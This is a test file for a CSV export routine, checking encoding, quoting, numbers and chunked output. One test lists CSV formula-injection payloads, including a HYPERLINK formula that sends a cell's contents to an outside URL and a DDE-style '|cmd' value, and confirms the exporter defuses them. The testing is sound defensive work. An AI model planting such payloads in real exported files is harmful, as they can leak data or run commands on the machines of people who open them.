import { describe, expect, it } from 'vitest';
import { csvPieces } from '../../../main/csv.ts';

const csv = (rows: readonly (readonly (string | number)[])[], columns = ['Name', 'Role']) =>
  [...csvPieces(columns, rows)].join('');

describe('a table as CSV', () => {
  it('begins with a byte-order mark and ends each line with CRLF', () => {
    expect(csv([['Ana', 'Adviser']])).toBe('\ufeffName,Role\r\nAna,Adviser\r\n');
  });

  it('has its columns even when there are no rows', () => {
    expect(csv([])).toBe('\ufeffName,Role\r\n');
  });

  it('keeps commas, quotes and line ends inside their cell', () => {
    expect(csv([['O’Brien, "Bo"', 'one\r\ntwo']])).toBe(
      '\ufeffName,Role\r\n"O’Brien, ""Bo""","one\r\ntwo"\r\n',
    );
  });

  it.each([
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    '+44 20 7946 0000',
    '-1+1|cmd',
    '@SUM(A1)',
    '\tTab',
    '\rReturn',
    '＝1+1',
  ])('makes no formula of %j', (name) => {
    const [, row = ''] = csv([[name, 'Adviser']]).split('\r\n');
    const cell = row.replace(/^"/, '');
    expect(cell.startsWith("'")).toBe(true);
    expect(cell[1]).toBe(name[0]);
  });

  it('leaves numbers numbers, negative ones too', () => {
    expect(csv([['Balance', -5]])).toBe('\ufeffName,Role\r\nBalance,-5\r\n');
  });

  it('comes in pieces, with one mark and every row once', () => {
    const rows = Array.from({ length: 2500 }, (_, n) => [`Person ${n}`, n]);
    const pieces = [...csvPieces(['Name', 'Number'], rows)];
    expect(pieces.length).toBeGreaterThan(1);
    const text = pieces.join('');
    expect(text.match(/\ufeff/g)).toHaveLength(1);
    expect(text.trimEnd().split('\r\n')).toHaveLength(2501);
    expect(text.endsWith('Person 2499,2499\r\n')).toBe(true);
  });
});
